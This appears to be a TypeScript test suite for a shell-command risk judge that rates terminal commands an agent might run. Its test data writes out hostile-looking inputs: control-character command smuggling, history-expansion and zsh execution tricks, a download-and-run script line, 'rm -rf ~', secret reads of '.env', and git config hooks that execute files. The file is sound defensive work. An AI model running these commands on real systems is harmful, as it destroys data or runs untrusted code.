import assert from 'node:assert/strict';
import { world } from '../world.ts';
import { fresh, judge, project, riskOf, rulesOf } from './judge.ts';

const typed = { terminal: true, interactive: true } as const;

describe('threats hole 5: what an interactive terminal runs is not the text that was parsed', () => {
  it('does not understand control characters (R9)', () => {
    for (const char of [
      '\u0015',
      '\u0003',
      '\u001b',
      '\r',
      '\u0000',
      '\u0085',
      '\u2028',
      '\u2029',
      '\u200b',
      '\u202e',
      '\u2066',
      '\ufeff',
      '\ud800',
      '\u{e0041}',
      '\u007f',
      '\u009b',
    ])
      assert.deepEqual(rulesOf(`echo hi${char}touch P`, typed), ['shell.not-understood'], JSON.stringify(char));
    assert.equal(riskOf('echo\thi', typed), 'HIGH');
    assert.equal(riskOf('echo\thi'), 'LOW');
  });

  it('does not understand history expansion (R10)', () => {
    for (const line of [
      "echo 'x;touch P' #!#:s/'x/x/:s/#'/#/",
      'echo !!',
      'echo "!ls"',
      'sudo !$',
      '^ls^rm',
      'echo hi\n^a^b',
      "echo 'a\nb!c'",
    ])
      assert.equal(riskOf(line, typed), 'HIGH', line);
    for (const line of ["echo '!x'", 'echo hi!', 'echo "hi!"', '[ ! -f x ]', '! grep x a', '[ a != b ]', 'echo \\!x'])
      assert.equal(riskOf(line, typed), 'LOW', line);
    assert.equal(riskOf('echo !!'), 'LOW');
  });

  it('does not understand what zsh executes and bash does not', () => {
    for (const line of ['ls *(e:"rm x":)', 'cat =(rm x)', 'echo =ls', 'echo ${(e)X}', 'ls *(+f)', 'echo ${~X}'])
      assert.equal(riskOf(line, { shell: 'zsh' }), 'HIGH', line);
    for (const line of ['ls *.ts', 'a=b ls', 'echo a=b', 'test a = b', 'npm run x -- --y=z', 'echo $((1 + 2))'])
      assert.ok(['LOW', 'MEDIUM'].includes(riskOf(line, { shell: 'zsh' })), line);
  });

  it('holds an alias against the name from then on (R11)', () => {
    const { findings, terminal } = judge('alias git="sh -c id"', { terminal: true });
    assert.ok(findings.some(({ rule, risk }) => rule === 'shell.redefines' && risk === 'HIGH'));
    assert.deepEqual(rulesOf('git status', { terminal: terminal ?? fresh }), ['shell.redefined']);
  });

  it('shows the real folder of rm -rf build after cd elsewhere', () => {
    const { terminal } = judge('cd /elsewhere', { terminal: true });
    const { findings, resolved } = judge('rm -rf build', { terminal: terminal ?? fresh });
    assert.match(resolved, /rm -rf build\s+# in \/elsewhere/);
    assert.ok(findings.some(({ risk, where }) => risk !== 'LOW' && risk !== 'MEDIUM' && where === '/elsewhere/build'));
    assert.equal(riskOf('rm -rf build'), 'MEDIUM');
  });
});

describe('threats hole 13: what is read can only raise a risk', () => {
  it('raises by the content of a script or of package.json', () => {
    assert.equal(riskOf('./ok.sh'), 'MEDIUM');
    assert.equal(riskOf('./wipe.sh'), 'CRITICAL');
    assert.equal(riskOf('npm run ship'), 'HIGH');
    assert.deepEqual(judge('npm run build').reads, ['/home/dev/project/package.json']);
  });

  it('does not believe a script that the same line may have replaced', () => {
    for (const line of [
      'git checkout evil && ./ok.sh',
      'tar xf a.tar && ./ok.sh',
      'curl -o ok.sh https://x.example; ./ok.sh',
      'unzip a.zip; bash ok.sh',
    ])
      assert.equal(riskOf(line), 'HIGH', line);
    assert.equal(riskOf('echo "rm -rf ~" > ok.sh && ./ok.sh'), 'CRITICAL');
    assert.equal(riskOf('echo "npm test" > ok.sh && ./ok.sh'), 'MEDIUM');
  });

  it('never lowers: a folder is build output only where git says so', () => {
    assert.equal(
      riskOf('rm -rf dist', {
        facts: world({
          entries: { '/home/dev/project/dist': 'directory' },
          git: { '/home/dev/project/dist': 'ignored' },
        }),
      }),
      'HIGH',
    );
  });
});

describe('threats hole 20: a secret on its way out', () => {
  it('says that what it prints is secret', () => {
    assert.equal(judge('cat .env').readsSecret, true);
    assert.equal(judge('printenv').readsSecret, true);
    assert.equal(judge('cat notes.txt').readsSecret, false);
  });
});

describe('threats hole 27: commands that look, and run', () => {
  const bare = {
    ...project,
    entry: (path: string) => (/\/odd\/(?:HEAD|objects|refs)$/.test(path) ? ('file' as const) : project.entry(path)),
  };
  const configured = (line: string) =>
    world({
      entries: { '/home/dev/project/.git': 'directory' },
      texts: { '/home/dev/project/.git/config': `[core]\n\trepositoryformatversion = 0\n${line}\n` },
    });

  it('asks for git in a folder that is laid out as a repository (R14)', () => {
    assert.equal(riskOf('git -C odd status', { facts: bare }), 'HIGH');
    assert.equal(riskOf('cd odd && git status', { facts: bare }), 'HIGH');
  });

  it('asks for git where the configuration of the repository runs something', () => {
    assert.equal(riskOf('git status', { facts: configured('\tfsmonitor = ./x') }), 'HIGH');
    assert.equal(riskOf('git log', { facts: configured('[diff "x"]\n\ttextconv = ./x') }), 'HIGH');
    assert.equal(riskOf('git diff', { facts: configured('[core] pager = ./x') }), 'HIGH');
    assert.equal(
      riskOf('git status', { facts: configured('\tfsmonitor = true\n[filter "lfs"]\n\tclean = git-lfs clean -- %f') }),
      'LOW',
    );
  });
});
